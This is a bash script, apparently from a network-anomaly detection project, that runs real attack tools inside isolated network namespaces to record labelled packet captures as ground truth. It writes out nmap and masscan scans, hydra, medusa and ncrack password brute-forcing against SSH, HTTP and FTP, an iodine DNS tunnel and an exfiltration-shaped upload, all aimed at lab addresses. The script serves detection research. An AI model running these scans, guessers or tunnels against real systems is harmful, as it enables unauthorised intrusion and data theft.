#!/usr/bin/env bash
# Records attacks with real tools between network namespaces, each with its label, for
# pktdyn-detect's ground truth (issue #15).
#
#   sudo scripts/record/attacks.sh --out DIR [--name NAME] [--steps ID,ID,...] [--passwords N]
#
# The attackers (10.88.0.1 with nmap, hydra and iodine, 10.88.0.3 with masscan, medusa and ncrack) and the victims
# (10.88.0.2 and 30 more addresses, 10.88.0.10-39, on one host) meet on a bridge in the victim's
# namespace. On the victim: OpenSSH (password logins, every guess wrong), an HTTP
# server asking for basic authentication (python), an FTP server (pyftpdlib, one user whose password
# is never guessed), dnsmasq, iodine's server (iodined, on 10.88.0.40) and a TCP sink for the
# upload. The attacker runs, one after the other (the step's ID in brackets):
#   [syn] nmap -sS -p 1-1000 (a vertical SYN scan)   [connect] nmap -sT -p 80 on 30 hosts (horizontal)
#   [udp] nmap -sU on 200 ports                      [ping] nmap -sn --send-ip on a /26 (ICMP and TCP pings)
#   [fin] nmap -sF on 50 ports (FIN scan)            [masscan] masscan on 1000 ports of 10.88.0.11, from the
#                                                    second attacker (timed out: 1.3.2 may hang after its wait)
#   [hydra-ssh] hydra against sshd                   [hydra-http] hydra against HTTP basic authentication
#   [hydra-ftp] hydra against the FTP server         [names] 150 random names under one domain (a tunnel's shape)
#   [iodine] iodine's DNS tunnel (t.iodine.test) carrying pings and 100 kB
#   [upload] a 25 MB upload in one connection; then, from the second attacker: [medusa] medusa against
#   sshd and [ncrack] ncrack against the HTTP server (a second guesser, judged on its own)
# --steps runs only the steps named; --passwords sets the length of the guessers' list (150).
# tcpdump records at the bridge: DIR/NAME.pcapng (whole packets, everything but the upload) and
# DIR/NAME-upload.pcapng (headers only: the upload), both at the bridge. DIR/NAME.labels.jsonl gives each step's kind,
# attacker, victim, start and end (seconds since the epoch), tool and command; DIR/NAME.json the
# tools' versions. Judge them with --internal 10.88.0.1/32,10.88.0.3/32 (the victims stand for the
# world outside).
set -euo pipefail

out="" name="attacks" steps="" passwords=150
while [ $# -gt 0 ]; do
  case $1 in
    --out) out=$2 ;; --name) name=$2 ;; --steps) steps=",$2," ;; --passwords) passwords=$2 ;;
    *) echo "attacks.sh: unknown option $1" >&2; exit 2 ;;
  esac
  shift 2
done
[ -n "$out" ] || { sed -n '2,28p' "$0"; exit 2; }
here=$(cd "$(dirname "$0")" && pwd)
. "$here/namespaces.sh"
record_start attacks.sh "$out"
A=pda$$ B=pdb$$ V=pdv$$
attacker=10.88.0.1 second=10.88.0.3 victim=10.88.0.2
inA() { ip netns exec "$A" "$@"; }
inB() { ip netns exec "$B" "$@"; }
inV() { ip netns exec "$V" "$@"; }
record_namespaces "$A" "$B" "$V"
record_bridge "$V" $victim pd$$ "$A:a:$attacker" "$B:b:$second"
for i in $(seq 10 40); do inV ip addr add 10.88.0.$i/24 dev br0; done

# --- the victim's services -------------------------------------------------------------------------
ssh-keygen -q -t ed25519 -N '' -f "$tmp/host_key"
cat >"$tmp/sshd_config" <<EOF
Port 22
HostKey $tmp/host_key
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin no
MaxAuthTries 3
StrictModes no
UsePAM no
PidFile $tmp/sshd.pid
EOF
mkdir -p /run/sshd
inV /usr/sbin/sshd -f "$tmp/sshd_config" -D -E "$tmp/sshd.log" &
cat >"$tmp/basic_auth.py" <<'EOF'
"""HTTP on :8080 asking for basic authentication; no password is right."""
import http.server
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="pktdyn"')
        self.send_header("Content-Length", "0")
        self.end_headers()
    def log_message(self, *args):
        pass
http.server.ThreadingHTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
EOF
inV /usr/bin/python3 "$tmp/basic_auth.py" &
cat >"$tmp/sink.py" <<'EOF'
"""A TCP sink on :9000: reads and drops."""
import socket
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 9000))
s.listen()
while True:
    c, _ = s.accept()
    while c.recv(1 << 16):
        pass
    c.close()
EOF
inV /usr/bin/python3 "$tmp/sink.py" &
cat >"$tmp/ftp.py" <<'EOF'
"""FTP on :21 (pyftpdlib): one user, admin, whose password no list holds."""
import logging, tempfile
from pyftpdlib.authorizers import DummyAuthorizer
from pyftpdlib.handlers import FTPHandler
from pyftpdlib.servers import FTPServer
logging.disable(logging.CRITICAL)
authorizer = DummyAuthorizer()
authorizer.add_user("admin", "never-in-a-list-7f3a", tempfile.mkdtemp())
FTPHandler.authorizer = authorizer
FTPServer(("0.0.0.0", 21), FTPHandler).serve_forever()
EOF
inV /usr/bin/python3 "$tmp/ftp.py" &
inV dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --user=root --listen-address=$victim --bind-interfaces \
  --address=/tunnel.pktdyn.test/$victim --log-facility=/dev/null --pid-file="$tmp/dnsmasq.pid" &
inV iodined -f -c -u root -P pktdyn-tunnel -l 10.88.0.40 10.53.0.1/27 t.iodine.test >"$tmp/iodined.log" 2>&1 &
sleep 1

# --- the attacks ----------------------------------------------------------------------------------
ip netns exec "$V" tcpdump -q -i br0 -s 0 -w "$tmp/attacks.pcap" --time-stamp-precision=nano "not port 9000" 2>/dev/null &
tcpdump_pid=$!
ip netns exec "$V" tcpdump -q -i br0 -s 96 -w "$tmp/upload.pcap" --time-stamp-precision=nano "port 9000" 2>/dev/null &
upload_pid=$!
sleep 1
labels="$out/$name.labels.jsonl"
: >"$labels"
step() {  # step ID KIND VICTIM TOOL COMMAND...: runs the command in the attacker's namespace, labelled
  local id=$1 kind=$2 target=$3 tool=$4
  shift 4
  if [ -n "$steps" ] && [[ "$steps" != *",$id,"* ]]; then return 0; fi
  local start end ns=$A who=$attacker
  if [ "$tool" = medusa ] || [ "$tool" = ncrack ] || [ "$tool" = masscan ]; then ns=$B who=$second; fi
  start=$(date +%s.%N)
  ip netns exec "$ns" "$@" >"$tmp/$kind.$tool.log" 2>&1 || true
  end=$(date +%s.%N)
  local command="$*"
  printf '{"kind": "%s", "attacker": "%s", "victim": "%s", "start": %s, "end": %s, "tool": "%s", "command": "%s"}\n' \
    "$kind" "$who" "$target" "$start" "$end" "$tool" "${command//$tmp\//}" >>"$labels"
  sleep 2
}
printf 'wrong%d\n' $(seq 1 "$passwords") >"$tmp/passwords"
cat >"$tmp/tunnel.py" <<'EOF'
"""150 queries for random names under one domain, one socket: a DNS tunnel's shape."""
import random, socket, string, struct, sys
srv = sys.argv[1]
rng = random.Random(15)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(1)
for i in range(150):
    label = "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(40))
    q = struct.pack("!HHHHHH", i, 0x0100, 1, 0, 0, 0)
    for part in (label, "tunnel", "pktdyn", "test"):
        q += bytes([len(part)]) + part.encode()
    u.sendto(q + b"\0" + struct.pack("!HH", 16, 1), (srv, 53))
    try:
        u.recvfrom(2048)
    except socket.timeout:
        pass
EOF
cat >"$tmp/iodine.sh" <<EOF
# iodine's client: the tunnel up (-r: no raw mode, every byte rides in DNS), pings and 100 kB through it, down.
iodine -f -r -P pktdyn-tunnel 10.88.0.40 t.iodine.test >"$tmp/iodine-client.log" 2>&1 &
for i in \$(seq 1 40); do ip addr show dns0 2>/dev/null | grep -q 10.53.0 && break; sleep 0.5; done
ping -c 20 -i 0.2 10.53.0.1
head -c 100000 /dev/urandom | /usr/bin/python3 -c "import socket, sys; s = socket.create_connection(('10.53.0.1', 9000)); s.sendall(sys.stdin.buffer.read()); s.close()"
kill %1
EOF
step syn scan.vertical $victim nmap nmap -n -Pn -sS -p 1-1000 --max-rate 3000 $victim
step connect scan.horizontal 10.88.0.10-39 nmap nmap -n -Pn -sT -p 80 10.88.0.10-39
step udp scan.udp $victim nmap nmap -n -Pn -sU -p 1-200 --max-rate 500 $victim
step ping scan.ping_sweep 10.88.0.0/26 nmap nmap -n -sn --send-ip 10.88.0.0/26
step fin scan.stealth $victim nmap nmap -n -Pn -sF -p 1-50 $victim
step masscan scan.vertical 10.88.0.11 masscan timeout 30 masscan 10.88.0.11 -p 1-1000 --rate 2000 --wait 2 -e pd$$b --router-ip 10.88.0.11
step hydra-ssh bruteforce.ssh $victim hydra hydra -l admin -P "$tmp/passwords" -t 16 -I ssh://$victim
step hydra-http bruteforce.http $victim hydra hydra -l admin -P "$tmp/passwords" -t 4 -I -s 8080 $victim http-get /
step hydra-ftp bruteforce.ftp $victim hydra hydra -l admin -P "$tmp/passwords" -t 4 -I ftp://$victim
step names dns.tunnel $victim python3 /usr/bin/python3 "$tmp/tunnel.py" $victim
step iodine dns.tunnel 10.88.0.40 iodine sh "$tmp/iodine.sh"
head -c 25000000 /dev/urandom >"$tmp/upload.bin"
step upload exfil.large_upload $victim python3 /usr/bin/python3 -c "import socket; s = socket.create_connection(('$victim', 9000)); s.sendall(open('$tmp/upload.bin', 'rb').read()); s.close()"
step medusa bruteforce.ssh $victim medusa medusa -h $victim -u admin -P "$tmp/passwords" -M ssh -t 8
step ncrack bruteforce.http $victim ncrack ncrack --user admin -P "$tmp/passwords" http://$victim:8080
sleep 1
kill "$tcpdump_pid" "$upload_pid"
wait "$tcpdump_pid" "$upload_pid" 2>/dev/null || true
editcap -F pcapng "$tmp/attacks.pcap" "$out/$name.pcapng"
editcap -F pcapng "$tmp/upload.pcap" "$out/$name-upload.pcapng"
printf '{"nmap": "%s", "masscan": "%s", "hydra": "%s", "medusa": "%s", "ncrack": "%s", "iodine": "%s", "pyftpdlib": "%s", "sshd": "%s", "recorded": "%s"}\n' \
  "$(nmap --version | head -1)" "$(masscan --version 2>&1 | grep -m1 -i version)" "$(hydra -h 2>&1 | head -1 | cut -d' ' -f1-2)" \
  "$(medusa -V 2>&1 | head -1 | cut -d' ' -f1-2)" "$(ncrack --version 2>&1 | grep -m1 -i 'version')" "$(iodine -v 2>&1 | head -1)" \
  "$(/usr/bin/python3 -c 'import pyftpdlib; print(pyftpdlib.__ver__)')" "$(ssh -V 2>&1)" "$(date -u +%FT%TZ)" >"$out/$name.json"
echo "attacks.sh: $out/$name.pcapng, $out/$name-upload.pcapng, $labels"
